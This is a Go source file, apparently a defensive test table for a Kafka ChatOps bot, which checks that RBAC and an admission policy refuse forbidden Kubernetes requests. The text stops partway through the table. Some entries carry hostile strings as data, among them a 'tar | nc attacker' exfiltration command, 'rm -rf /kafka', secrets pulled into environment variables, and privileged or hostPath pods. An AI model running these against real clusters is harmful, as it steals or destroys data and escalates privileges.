// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The kafkabot Authors

package hostile

import (
	"context"
	"errors"
	"fmt"
	"strings"

	appsv1 "k8s.io/api/apps/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	schedulingv1 "k8s.io/api/scheduling/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"

	"github.com/kafka-chatops/kafkabot/internal/recovery"
)

// PolicyName is the name of deploy/'s ValidatingAdmissionPolicy (and its
// binding); a refusal by it names it.
const PolicyName = "kafka-bot-guard"

// NeverScheduledLabel is the node label Install's pods select: no node
// carries it, so they stay Pending.
const NeverScheduledLabel = "kafkabot.io/hostile-target-never-scheduled"

// Names of the objects Install creates for the shapes to aim at.
const (
	OperatorPod     = "strimzi-cluster-operator-7d9f8c6b5-x2x4z"
	ControllerPod   = "kafka-controller-0"
	ForeignLease    = "strimzi-cluster-operator"
	KafkaSecret     = "kafka-users"
	StateConfigMap  = "kafkabot-alert-state"
	OtherBrokerName = "kafka-broker-1"
	// OperatorReplicaSet owns OperatorPod (not as its controller).
	OperatorReplicaSet = "strimzi-cluster-operator-7d9f8c6b5"
	// CombinedPod is a plain app=kafka StatefulSet pod whose roles
	// (broker,controller) are only in its properties file: nothing in its
	// labels or env says controller. The policy's parameters do not name it.
	CombinedPod = "kafka-0"
	// CombinedStatefulSet owns CombinedPod; it wants no pods and selects none.
	CombinedStatefulSet = "kafka"
	// HighPriorityClass is a PriorityClass Install creates (no pod uses it)
	// and deploy/'s parameters do not list: a debug pod with it could
	// preempt other pods of its node.
	HighPriorityClass = "kafkabot-hostile-high-priority"
)

// OtherDebugPod is the name of the debug pod Install creates, as an admin,
// for OtherBrokerName: the existing debug pod the update shapes aim at.
var OtherDebugPod = recovery.DebugPodName(OtherBrokerName)

// BrokerParams are the policy's broker parameters (annotations of the
// bot's Namespace) that name the brokers of every layout of Layouts, by
// exact name or pattern, and their claims: deploy/'s defaults name only
// the Bitnami and Strimzi ones. They name neither ControllerPod nor
// CombinedPod.
func BrokerParams() map[string]string {
	return map[string]string{
		"kafkabot.io/broker-pods":   `[a-z0-9]([-a-z0-9]*[a-z0-9])?-brokers?-[0-9]+|kafka-1|kafka-2`,
		"kafkabot.io/broker-claims": "data-{pod},data-[0-9]+-{pod},data0-{pod},logs-{pod}",
	}
}

// Cluster is where the shapes run and with whose identity.
type Cluster struct {
	// Bot makes requests with the bot's identity: its real token, or an
	// admin impersonating its ServiceAccount.
	Bot kubernetes.Interface
	// Namespace is a Kafka namespace the bot is bound in; Install's
	// objects live there.
	Namespace string
	// BotNamespace is the bot's own namespace.
	BotNamespace string
	// SettingsConfigMap is the bot's settings ConfigMap in BotNamespace
	// (deploy/'s "kafka-bot").
	SettingsConfigMap string
	// DebugPod is a debug pod the bot really builds in Namespace (one of
	// Layouts' DebugPod): every pod shape is a change of a copy of it.
	DebugPod *corev1.Pod
}

// Layer is what is expected to refuse a shape.
type Layer string

const (
	// ByPolicy: RBAC allows the verb; the admission policy refuses.
	ByPolicy Layer = "admission policy"
	// ByRBAC: RBAC grants no such request.
	ByRBAC Layer = "RBAC"
	// ByAny: RBAC, or the policy where RBAC grants the verb (pod patches,
	// granted once the bot annotates its own debug pods).
	ByAny Layer = "RBAC or admission policy"
)

// Shape is one forbidden request.
type Shape struct {
	// Name says what the request tries.
	Name string
	// Layer is what must refuse it.
	Layer Layer
	// Says is part of the refusal message expected from the policy (the
	// rule that catches it); empty for RBAC refusals.
	Says string
	// Try makes the request as c.Bot and returns the API server's error.
	Try func(ctx context.Context, c Cluster) error
}

// dryRun makes every write a server-side dry run: admission runs, nothing
// is stored, so the table is safe on any cluster.
var dryRun = []string{metav1.DryRunAll}

// podShape is a forbidden variant of the bot's debug pod.
func podShape(name, says string, change func(p *corev1.Pod)) Shape {
	return Shape{Name: name, Layer: ByPolicy, Says: says, Try: func(ctx context.Context, c Cluster) error {
		if c.DebugPod == nil {
			return errors.New("hostile: Cluster.DebugPod is not set")
		}
		p := c.DebugPod.DeepCopy()
		p.Namespace = c.Namespace
		p.ResourceVersion, p.UID = "", ""
		change(p)
		_, err := c.Bot.CoreV1().Pods(c.Namespace).Create(ctx, p, metav1.CreateOptions{DryRun: dryRun})
		return err
	}}
}

// ctr is the debug pod's one container.
func ctr(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }

// Refusal messages of the policy's rules (deploy/base/admission-policy.yaml).
const (
	saysOwnPods    = "may only create its debug pods"
	saysToken      = "no ServiceAccount token"
	saysOneCtr     = "exactly one container"
	saysDigest     = "pinned by digest"
	saysScript     = "only the bot's embedded repair script"
	saysRepo       = "from a repository listed in the kafkabot.io/debug-image-repositories"
	saysNonRoot    = "run as non-root"
	saysCaps       = "drop ALL capabilities"
	saysUnpriv     = "are unprivileged"
	saysSeccomp    = "seccomp RuntimeDefault"
	saysHost       = "no host network, PID or IPC"
	saysNodeName   = "never spec.nodeName"
	saysVolumes    = "mount only the target broker's own claims"
	saysEnv        = "take only the script's KB_* inputs"
	saysDeadline   = "restartPolicy Never and a deadline"
	saysHooks      = "no lifecycle hooks"
	saysDelete     = "may only delete its own debug pods and the broker pods the kafkabot.io/broker-pods parameter names"
	saysLease      = "only write Leases named kafkabot-*"
	saysConfigMaps = "only write its alert-state ConfigMap"
	saysUpdate     = "may only set the kafkabot/go annotation of its own debug pods"
	saysBroker     = "serve only a broker pod that the kafkabot.io/broker-pods parameter"
	saysNoGo       = "created without the kafkabot/go annotation"
	saysNoOwners   = "no owner references and no finalizers"
	saysGroup0     = "run without group 0"
	saysFSGroup    = "fsGroup only with fsGroupChangePolicy OnRootMismatch"
	saysPlacement  = "placed as the bot places them"
	saysMounts     = "mount each volume whole"
	saysNodeCheck  = "check the node id (KB_NODE_ID_CHECK=require"
	saysGoBound    = "wait only for the go of their own repair"
	saysResources  = "exactly the bot's debug resources"
)

// retarget points a debug pod at another pod: its kafkabot/broker label and
// name, and its first claim.
func retarget(p *corev1.Pod, broker, claim string) {
	p.Labels["kafkabot/broker"] = broker
	p.Name = recovery.DebugPodName(broker)
	p.Spec.Volumes[0].PersistentVolumeClaim.ClaimName = claim
}

// setEnv sets the script's environment variable name, appending it when
// missing.
func setEnv(p *corev1.Pod, name, value string) {
	c := ctr(p)
	for i := range c.Env {
		if c.Env[i].Name == name {
			c.Env[i].Value = value
			return
		}
	}
	c.Env = append(c.Env, corev1.EnvVar{Name: name, Value: value})
}

// updateShape patches the existing debug pod OtherDebugPod (Install's) as
// the bot, as a dry run.
func updateShape(name, patch string) Shape { return patchShape(name, OtherDebugPod, patch) }

// patchShape merge-patches the existing pod (Install's) as the bot, as a
// dry run.
func patchShape(name, pod, patch string) Shape {
	return Shape{Name: name, Layer: ByPolicy, Says: saysUpdate, Try: func(ctx context.Context, c Cluster) error {
		_, err := c.Bot.CoreV1().Pods(c.Namespace).Patch(ctx, pod, types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: dryRun})
		return err
	}}
}

// StatusRefreshPatch is the bot's one write to a broker pod, as it sends it
// (internal/recovery's refreshKubeletStatus): the status-refresh annotation.
const StatusRefreshPatch = `{"metadata":{"annotations":{"kafkabot/status-refresh":"hostile-repair.3"}}}`

// Shapes returns every forbidden request shape, each distinct: the ones
// issue 18 reported, their combinations, and the neighbours of each rule.
func Shapes() []Shape {
	secretEnv := func(p *corev1.Pod) {
		ctr(p).Env = append(ctr(p).Env, corev1.EnvVar{Name: "KB_PASSWORD", ValueFrom: &corev1.EnvVarSource{
			SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: KafkaSecret}, Key: "password"}}})
	}
	addVolume := func(p *corev1.Pod, v corev1.Volume) {
		p.Spec.Volumes = append(p.Spec.Volumes, v)
		ctr(p).VolumeMounts = append(ctr(p).VolumeMounts, corev1.VolumeMount{Name: v.Name, MountPath: "/mnt/" + v.Name})
	}
	shapes := []Shape{
		// ---- issue 18, as reported ----------------------------------------
		podShape("the reported pod: root, any image, default capabilities, any command, another broker's claim", "", func(p *corev1.Pod) {
			c := ctr(p)
			c.Image = "alpine:3"
			c.Command = []string{"sh", "-c", "tar c /kafka | nc attacker 9"}
			c.SecurityContext = &corev1.SecurityContext{RunAsUser: ptr.To[int64](0)}
			p.Spec.SecurityContext = nil
			p.Spec.Volumes = []corev1.Volume{{Name: "claim-0", VolumeSource: corev1.VolumeSource{
				PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-" + OtherBrokerName}}}}
			c.VolumeMounts = []corev1.VolumeMount{{Name: "claim-0", MountPath: "/kafka"}}
		}),
		podShape("env valueFrom secretKeyRef on the Kafka users' Secret", saysEnv, secretEnv),
		podShape("envFrom secretRef with command env, to read the Secret back through pods/log", "", func(p *corev1.Pod) {
			ctr(p).EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: KafkaSecret}}}}
			ctr(p).Command = []string{"env"}
		}),
		podShape("envFrom secretRef alone (script unchanged)", saysEnv, func(p *corev1.Pod) {
			ctr(p).EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: KafkaSecret}}}}
		}),
		podShape("env valueFrom configMapKeyRef", saysEnv, func(p *corev1.Pod) {
			ctr(p).Env = append(ctr(p).Env, corev1.EnvVar{Name: "KB_X", ValueFrom: &corev1.EnvVarSource{
				ConfigMapKeyRef: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "kafka-bot"}, Key: "APPROVERS"}}})
		}),
		podShape("an environment variable outside the script's inputs (BASH_ENV)", saysEnv, func(p *corev1.Pod) {
			ctr(p).Env = append(ctr(p).Env, corev1.EnvVar{Name: "BASH_ENV", Value: "/kafka/x"})
		}),

		// ---- identity and token -------------------------------------------
		podShape("runAsUser 0", saysNonRoot, func(p *corev1.Pod) {
			ctr(p).SecurityContext.RunAsUser = ptr.To[int64](0)
			ctr(p).SecurityContext.RunAsNonRoot = ptr.To(false)
		}),
		podShape("runAsUser 0 at pod level only", saysNonRoot, func(p *corev1.Pod) {
			p.Spec.SecurityContext.RunAsUser = ptr.To[int64](0)
			ctr(p).SecurityContext.RunAsUser = nil
		}),
		podShape("runAsNonRoot unset (the image's user could be root)", saysNonRoot, func(p *corev1.Pod) {
			ctr(p).SecurityContext.RunAsNonRoot = nil
			p.Spec.SecurityContext.RunAsNonRoot = nil
		}),
		podShape("ServiceAccount token automounted", saysToken, func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = nil }),
		podShape("another ServiceAccount", saysToken, func(p *corev1.Pod) { p.Spec.ServiceAccountName = "strimzi-cluster-operator" }),
		podShape("a projected ServiceAccount token volume", saysVolumes, func(p *corev1.Pod) {
			p.Spec.ServiceAccountName = "default" // as the ServiceAccount admission plugin sets it
			addVolume(p, corev1.Volume{Name: "token", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
				Sources: []corev1.VolumeProjection{{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}}}}}})
		}),

		// ---- image and command --------------------------------------------
		podShape("image by tag", saysDigest, func(p *corev1.Pod) { ctr(p).Image = "busybox:latest" }),
		podShape("an image of the attacker's by digest", saysRepo, func(p *corev1.Pod) {
			ctr(p).Image = "ghcr.io/attacker/sh@sha256:" + strings.Repeat("e", 64)
		}),
		podShape("another command", saysScript, func(p *corev1.Pod) { ctr(p).Command = []string{"sh", "-c", "cat /kafka/*/meta.properties"} }),
		podShape("the script with extra args", saysScript, func(p *corev1.Pod) { ctr(p).Args = []string{"--", "rm -rf /kafka"} }),
		podShape("the script run by another interpreter", saysScript, func(p *corev1.Pod) { ctr(p).Command[0] = "/tmp/sh" }),

		// ---- privileges ----------------------------------------------------
		podShape("default capabilities (nothing dropped)", saysCaps, func(p *corev1.Pod) { ctr(p).SecurityContext.Capabilities = nil }),
		podShape("adds SYS_ADMIN", saysCaps, func(p *corev1.Pod) {
			ctr(p).SecurityContext.Capabilities.Add = []corev1.Capability{"SYS_ADMIN"}
		}),
		podShape("privileged", saysUnpriv, func(p *corev1.Pod) {
			// The API server itself requires escalation with privileged.
			ctr(p).SecurityContext.Privileged = ptr.To(true)
			ctr(p).SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
		}),
		podShape("allowPrivilegeEscalation", saysUnpriv, func(p *corev1.Pod) {
			ctr(p).SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
		}),
		podShape("writable root filesystem", saysUnpriv, func(p *corev1.Pod) {
			ctr(p).SecurityContext.ReadOnlyRootFilesystem = ptr.To(false)
		}),
		podShape("seccomp Unconfined", saysSeccomp, func(p *corev1.Pod) {
			ctr(p).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}),
		podShape("AppArmor Unconfined", saysSeccomp, func(p *corev1.Pod) {
			ctr(p).SecurityContext.AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
		}),
		podShape("SELinux type spc_t (unconfined container)", saysSeccomp, func(p *corev1.Pod) {
			p.Spec.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
		}),
		podShape("a kernel sysctl", saysSeccomp, func(p *corev1.Pod) {
			p.Spec.SecurityContext.Sysctls = []corev1.Sysctl{{Name: "kernel.shm_rmid_forced", Value: "0"}}
		}),

		// ---- the host ------------------------------------------------------
		podShape("hostPath /", saysVolumes, func(p *corev1.Pod) {
			addVolume(p, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}),
		podShape("hostNetwork", saysHost, func(p *corev1.Pod) { p.Spec.HostNetwork = true }),
		podShape("hostPID", saysHost, func(p *corev1.Pod) { p.Spec.HostPID = true }),
		podShape("hostIPC", saysHost, func(p *corev1.Pod) { p.Spec.HostIPC = true }),
		podShape("hostPort", saysHost, func(p *corev1.Pod) {
			ctr(p).Ports = []corev1.ContainerPort{{ContainerPort: 9092, HostPort: 9092}}
		}),
		podShape("spec.nodeName instead of node affinity", saysNodeName, func(p *corev1.Pod) {
			p.Spec.NodeName = "node-1"
			p.Spec.Affinity = nil
		}),

		// ---- volumes -------------------------------------------------------
		podShape("a Secret volume", saysVolumes, func(p *corev1.Pod) {
			addVolume(p, corev1.Volume{Name: "s", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: KafkaSecret}}})
		}),
		podShape("a ConfigMap volume", saysVolumes, func(p *corev1.Pod) {
			addVolume(p, corev1.Volume{Name: "cm", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: "kafka-bot"}}}})
		}),
		podShape("an emptyDir volume", saysVolumes, func(p *corev1.Pod) {
			addVolume(p, corev1.Volume{Name: "scratch", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
		}),
		podShape("another broker's claim beside the target's", saysVolumes, func(p *corev1.Pod) {
			addVolume(p, corev1.Volume{Name: "other", VolumeSource: corev1.VolumeSource{
				PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-" + OtherBrokerName}}})
		}),
		podShape("a projected volume carrying a Secret", saysVolumes, func(p *corev1.Pod) {
			addVolume(p, corev1.Volume{Name: "proj", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
				Sources: []corev1.VolumeProjection{{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: KafkaSecret}}}}}}})
		}),
		podShape("mount propagation from the host", saysEnv, func(p *corev1.Pod) {
			ctr(p).VolumeMounts[0].MountPropagation = ptr.To(corev1.MountPropagationHostToContainer)
		}),

		// ---- shape of the pod ----------------------------------------------
		podShape("without the bot's labels", saysOwnPods, func(p *corev1.Pod) { p.Labels = map[string]string{"app": "x"} }),
		podShape("labelled as the bot's but not named kafkabot-repair-*", saysOwnPods, func(p *corev1.Pod) { p.Name = "innocent-looking" }),
		podShape("an init container", saysOneCtr, func(p *corev1.Pod) {
			init := *ctr(p).DeepCopy()
			init.Name = "init"
			p.Spec.InitContainers = []corev1.Container{init}
		}),
		podShape("a second container", saysOneCtr, func(p *corev1.Pod) {
			second := *ctr(p).DeepCopy()
			second.Name = "second"
			p.Spec.Containers = append(p.Spec.Containers, second)
		}),
		podShape("a postStart hook", saysHooks, func(p *corev1.Pod) {
			ctr(p).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}}
		}),
		podShape("an exec liveness probe", saysHooks, func(p *corev1.Pod) {
			ctr(p).LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}}
		}),
		podShape("stdin and tty for an attach", saysHooks, func(p *corev1.Pod) { ctr(p).Stdin, ctr(p).TTY = true, true }),
		podShape("restartPolicy Always", saysDeadline, func(p *corev1.Pod) { p.Spec.RestartPolicy = corev1.RestartPolicyAlways }),
		podShape("no deadline", saysDeadline, func(p *corev1.Pod) { p.Spec.ActiveDeadlineSeconds = nil }),
		podShape("a deadline over an hour", saysDeadline, func(p *corev1.Pod) { p.Spec.ActiveDeadlineSeconds = ptr.To[int64](3601) }),

		// ---- issue 27: binding to the administrator's brokers ---------------
		podShape("a controller's claim, the label naming the controller pod, node-id check skipped", saysBroker, func(p *corev1.Pod) {
			retarget(p, ControllerPod, "data-"+ControllerPod)
			setEnv(p, "KB_NODE_ID_CHECK", "skip")
			setEnv(p, "KB_NODE_ID", "")
		}),
		podShape("label '0': a broker's and a controller's claim in one pod", saysBroker, func(p *corev1.Pod) {
			retarget(p, "0", "data-kafka-broker-0")
			addVolume(p, corev1.Volume{Name: "claim-9", VolumeSource: corev1.VolumeSource{
				PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-" + ControllerPod}}})
		}),
		podShape("label 'postgres': a non-Kafka claim (any hyphenated claim)", saysBroker, func(p *corev1.Pod) {
			retarget(p, "postgres", "postgres-data")
		}),
		podShape("a named broker's label with a claim no template names", saysVolumes, func(p *corev1.Pod) {
			p.Spec.Volumes[0].PersistentVolumeClaim.ClaimName = "postgres-data"
		}),
		podShape("a claim named like the broker's with a suffix", saysVolumes, func(p *corev1.Pod) {
			p.Spec.Volumes[0].PersistentVolumeClaim.ClaimName += "-x"
		}),
		podShape("no volumes at all (pure resource spam)", saysVolumes, func(p *corev1.Pod) {
			p.Spec.Volumes, ctr(p).VolumeMounts = nil, nil
		}),
		podShape("the go volume exposing another annotation", saysVolumes, func(p *corev1.Pod) {
			for i := range p.Spec.Volumes {
				if d := p.Spec.Volumes[i].DownwardAPI; d != nil {
					d.Items[0].FieldRef.FieldPath = "metadata.annotations['kafkabot/approval-id']"
				}
			}
		}),
		podShape("named kafkabot-repair-<other> (a second debug pod for one broker)", saysOwnPods, func(p *corev1.Pod) {
			p.Name = recovery.DebugPodName("kafka-broker-0") + "-2"
		}),
		podShape("extra labels matching the Kafka Service and PDB selectors", saysOwnPods, func(p *corev1.Pod) {
			p.Labels["app.kubernetes.io/name"] = "kafka"
			p.Labels["app.kubernetes.io/component"] = "broker"
		}),
		podShape("KB_NODE_ID_CHECK=skip", saysNodeCheck, func(p *corev1.Pod) {
			setEnv(p, "KB_NODE_ID_CHECK", "skip")
			setEnv(p, "KB_NODE_ID", "")
		}),
		podShape("KB_NODE_ID_CHECK twice, require then skip (the last one wins)", saysNodeCheck, func(p *corev1.Pod) {
			ctr(p).Env = append(ctr(p).Env, corev1.EnvVar{Name: "KB_NODE_ID_CHECK", Value: "skip"})
		}),
		podShape("KB_MOUNT_ROOT elsewhere", saysNodeCheck, func(p *corev1.Pod) { setEnv(p, "KB_MOUNT_ROOT", "/mnt") }),
		podShape("KB_GO_WANT chosen by the creator", saysGoBound, func(p *corev1.Pod) { setEnv(p, "KB_GO_WANT", "attacker") }),
		podShape("KB_GO_WAIT as long as the deadline", saysGoBound, func(p *corev1.Pod) {
			setEnv(p, "KB_GO_WAIT", "3600")
			p.Spec.ActiveDeadlineSeconds = ptr.To[int64](3600)
		}),
		podShape("the go annotation present at creation", saysNoGo, func(p *corev1.Pod) {
			p.Annotations["kafkabot/go"] = p.Labels["kafkabot/repair-id"] + ".9999999999"
		}),
		podShape("an AppArmor unconfined annotation", saysNoGo, func(p *corev1.Pod) {
			p.Annotations["container.apparmor.security.beta.kubernetes.io/repair"] = "unconfined"
		}),
		podShape("an owner reference to the broker's StatefulSet", saysNoOwners, func(p *corev1.Pod) {
			p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "StatefulSet", Name: "kafka-broker",
				UID: "00000000-0000-4000-8000-000000000012", Controller: ptr.To(true)}}
		}),
		podShape("a finalizer (the pod never goes away)", saysNoOwners, func(p *corev1.Pod) { p.Finalizers = []string{"example.com/hold"} }),
		podShape("fsGroup with fsGroupChangePolicy Always (re-owns every file of the volume)", saysFSGroup, func(p *corev1.Pod) {
			p.Spec.SecurityContext.FSGroup = ptr.To[int64](4242)
			p.Spec.SecurityContext.FSGroupChangePolicy = ptr.To(corev1.FSGroupChangeAlways)
		}),
		podShape("fsGroup without fsGroupChangePolicy (the kubelet's default is Always)", saysFSGroup, func(p *corev1.Pod) {
			p.Spec.SecurityContext.FSGroupChangePolicy = nil
		}),
		podShape("runAsGroup 0", saysGroup0, func(p *corev1.Pod) {
			p.Spec.SecurityContext.RunAsGroup = ptr.To[int64](0)
			ctr(p).SecurityContext.RunAsGroup = ptr.To[int64](0)
		}),
		podShape("supplementalGroups [0]", saysGroup0, func(p *corev1.Pod) { p.Spec.SecurityContext.SupplementalGroups = []int64{0} }),
		podShape("a priority class the parameters do not list", saysPlacement, func(p *corev1.Pod) { p.Spec.PriorityClassName = HighPriorityClass }),
		podShape("a toleration of every taint", saysPlacement, func(p *corev1.Pod) {
			p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Operator: corev1.TolerationOpExists})
		}),
		podShape("a pod anti-affinity", saysPlacement, func(p *corev1.Pod) {
			p.Spec.Affinity.PodAntiAffinity = &corev1.PodAntiAffinity{RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{
				TopologyKey: "kubernetes.io/hostname", LabelSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "kafka"}}}}}
		}),
		podShape("node affinity to the broker's node or any control-plane node", saysPlacement, func(p *corev1.Pod) {
			r := p.Spec.Affinity.NodeAffinity.RequiredDuringSchedulingIgnoredDuringExecution
			r.NodeSelectorTerms = append(r.NodeSelectorTerms, corev1.NodeSelectorTerm{MatchExpressions: []corev1.NodeSelectorRequirement{{
				Key: "node-role.kubernetes.io/control-plane", Operator: corev1.NodeSelectorOpExists}}})
		}),
		podShape("a node selector", saysPlacement, func(p *corev1.Pod) {
			p.Spec.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		}),
		podShape("huge requests and limits (the scheduler preempts pods)", saysResources, func(p *corev1.Pod) {
			ctr(p).Resources = corev1.ResourceRequirements{
				Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("64"), corev1.ResourceMemory: resource.MustParse("256Gi")},
				Limits:   corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("64"), corev1.ResourceMemory: resource.MustParse("256Gi")}}
		}),
		podShape("no memory limit", saysResources, func(p *corev1.Pod) { delete(ctr(p).Resources.Limits, corev1.ResourceMemory) }),
		podShape("subPath on the claim mount (a second mount of one filesystem)", saysMounts, func(p *corev1.Pod) {
			ctr(p).VolumeMounts[0].SubPath = "data"
		}),
		podShape("subPathExpr on the claim mount", saysMounts, func(p *corev1.Pod) {
			ctr(p).VolumeMounts[0].SubPathExpr = "$(KB_TARGET)"
		}),
		podShape("the claim mounted over the image's /bin", saysMounts, func(p *corev1.Pod) {
			ctr(p).VolumeMounts[0].MountPath = "/bin"
		}),
		podShape("the go file mounted writable", saysMounts, func(p *corev1.Pod) {
			for i := range ctr(p).VolumeMounts {
				if ctr(p).VolumeMounts[i].Name == "kafkabot-go" {
					ctr(p).VolumeMounts[i].ReadOnly = false
				}
			}
		}),
		podShape("a hostname and subdomain (a headless Service's DNS name)", saysHooks, func(p *corev1.Pod) {
			p.Spec.Hostname, p.Spec.Subdomain = "kafka-broker-0", "kafka-broker-headless"
		}),
		podShape("a shared process namespace", saysHooks, func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = ptr.To(true) }),

		// ---- updates of a debug pod (issue 27) --------------------------------
		updateShape("set the go of another repair on a debug pod", `{"metadata":{"annotations":{"kafkabot/go":"attacker.9999999999"}}}`),
		updateShape("a go without a deadline", `{"metadata":{"annotations":{"kafkabot/go":"hostile-`+OtherBrokerName+`"}}}`),
		updateShape("add a finalizer to a debug pod", `{"metadata":{"finalizers":["example.com/hold"]}}`),
		updateShape("add an owner reference to a debug pod", `{"metadata":{"ownerReferences":[{"apiVersion":"apps/v1","kind":"StatefulSet","name":"kafka-broker","uid":"00000000-0000-4000-8000-000000000012","controller":true}]}}`),
		updateShape("change another annotation of a debug pod", `{"metadata":{"annotations":{"kafkabot/target":"meta.properties"}}}`),
		updateShape("add a label to a debug pod", `{"metadata":{"labels":{"app.kubernetes.io/name":"kafka"}}}`),
		// The status refresh is for broker pods the parameters name only.
		patchShape("the status refresh on a KRaft controller pod", ControllerPod, StatusRefreshPatch),
		patchShape("the status refresh on a combined node", CombinedPod, StatusRefreshPatch),
		patchShape("the status refresh on the operator's pod", OperatorPod, StatusRefreshPatch),

		// ---- deletes -------------------------------------------------------
		deleteShape("delete the operator's pod", OperatorPod),
		deleteShape("delete a KRaft controller pod", ControllerPod),
		deleteShape("delete a combined node whose roles are only in its properties file", CombinedPod),

		// ---- leases --------------------------------------------------------
		{Name: "update the operator's leader Lease", Layer: ByPolicy, Says: saysLease, Try: func(ctx context.Context, c Cluster) error {
			l, err := c.Bot.CoordinationV1().Leases(c.Namespace).Get(ctx, ForeignLease, metav1.GetOptions{})
			if err != nil {
				return fmt.Errorf("reading the Lease to update: %w", err)
			}
			l.Spec.HolderIdentity = ptr.To("attacker")
			_, err = c.Bot.CoordinationV1().Leases(c.Namespace).Update(ctx, l, metav1.UpdateOptions{DryRun: dryRun})
			return err
		}},
		{Name: "create a Lease not named kafkabot-*", Layer: ByPolicy, Says: saysLease, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoordinationV1().Leases(c.Namespace).Create(ctx, &coordinationv1.Lease{
				ObjectMeta: metav1.ObjectMeta{Name: "cruise-control-leader"},
				Spec:       coordinationv1.LeaseSpec{HolderIdentity: ptr.To("attacker")},
			}, metav1.CreateOptions{DryRun: dryRun})
			return err
		}},
		{Name: "create a leader Lease in the bot's namespace not named kafkabot-*", Layer: ByPolicy, Says: saysLease, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoordinationV1().Leases(c.BotNamespace).Create(ctx, &coordinationv1.Lease{
				ObjectMeta: metav1.ObjectMeta{Name: "other-leader"},
			}, metav1.CreateOptions{DryRun: dryRun})
			return err
		}},
		{Name: "delete the operator's leader Lease", Layer: ByPolicy, Says: saysLease, Try: func(ctx context.Context, c Cluster) error {
			return c.Bot.CoordinationV1().Leases(c.Namespace).Delete(ctx, ForeignLease, metav1.DeleteOptions{DryRun: dryRun})
		}},
		{Name: "delete a Lease in the bot's namespace (the leader Lease)", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			return c.Bot.CoordinationV1().Leases(c.BotNamespace).Delete(ctx, "kafkabot-leader", metav1.DeleteOptions{DryRun: dryRun})
		}},

		// ---- the bot's own namespace ----------------------------------------
		{Name: "update the bot's settings ConfigMap (make oneself an approver)", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: c.SettingsConfigMap, Namespace: c.BotNamespace},
				Data: map[string]string{"APPROVERS": "U0ATTACKER"}}
			_, err := c.Bot.CoreV1().ConfigMaps(c.BotNamespace).Update(ctx, cm, metav1.UpdateOptions{DryRun: dryRun})
			return err
		}},
		{Name: "patch the bot's settings ConfigMap", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoreV1().ConfigMaps(c.BotNamespace).Patch(ctx, c.SettingsConfigMap, types.MergePatchType,
				[]byte(`{"data":{"APPROVERS":"U0ATTACKER"}}`), metav1.PatchOptions{DryRun: dryRun})
			return err
		}},
		{Name: "read the bot's settings ConfigMap", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoreV1().ConfigMaps(c.BotNamespace).Get(ctx, c.SettingsConfigMap, metav1.GetOptions{})
			return err
		}},
		{Name: "create a ConfigMap other than the alert state", Layer: ByPolicy, Says: saysConfigMaps, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoreV1().ConfigMaps(c.BotNamespace).Create(ctx, &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Name: c.SettingsConfigMap + "-override"}}, metav1.CreateOptions{DryRun: dryRun})
			return err
		}},
		{Name: "list every ConfigMap of the bot's namespace", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
